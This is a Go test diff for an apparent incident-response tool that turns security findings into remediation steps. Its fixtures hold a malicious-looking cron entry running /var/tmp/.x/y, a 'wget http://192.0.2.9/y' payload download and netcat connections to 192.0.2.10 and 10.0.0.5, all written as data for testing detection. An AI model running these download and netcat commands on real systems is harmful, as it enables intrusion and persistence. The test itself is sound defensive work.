@@ -64,3 +64,21 @@ func TestStepsFitWhatWasTried(t *testing.T) {
 		}
 	}
 }
+
+// TestStepsNameWhatTheyMean: what was left is removed with what it runs and without the owner's jobs in the same file, and a machine of a stranger's is not to be examined
+// but looked for.
+func TestStepsNameWhatTheyMean(t *testing.T) {
+	bobs := with(cron("/var/spool/cron/crontabs/bob", "/var/tmp/.x/y >/dev/null", detect.High, "03:02:00"), func(f *detect.Finding) { f.As = "bob" })
+	s := Build(t.Context(), []detect.Finding{guessed("03:00:00", "03:10:00"), bobs, outgoing("bob", "", "download", "192.0.2.9", "wget http://192.0.2.9/y", "03:01:00"), outgoing("bob", "", "connection", "192.0.2.10", "nc 192.0.2.10 80", "03:01:30"), outgoing("bob", "", "connection", "10.0.0.5", "nc 10.0.0.5 22", "03:01:40")}, full())
+	check(t, &s)
+	var steps []string
+	for _, d := range s.DoNow {
+		steps = append(steps, d.Step)
+	}
+	got := strings.Join(steps, "\n")
+	for _, want := range []string{"the cron entry in /var/spool/cron/crontabs/bob with /var/tmp/.x/y.", "Look for connections to 192.0.2.9 and 192.0.2.10 from", "on 10.0.0.5, and examine"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("%q is missing in:\n%s", want, got)
+		}
+	}
+}
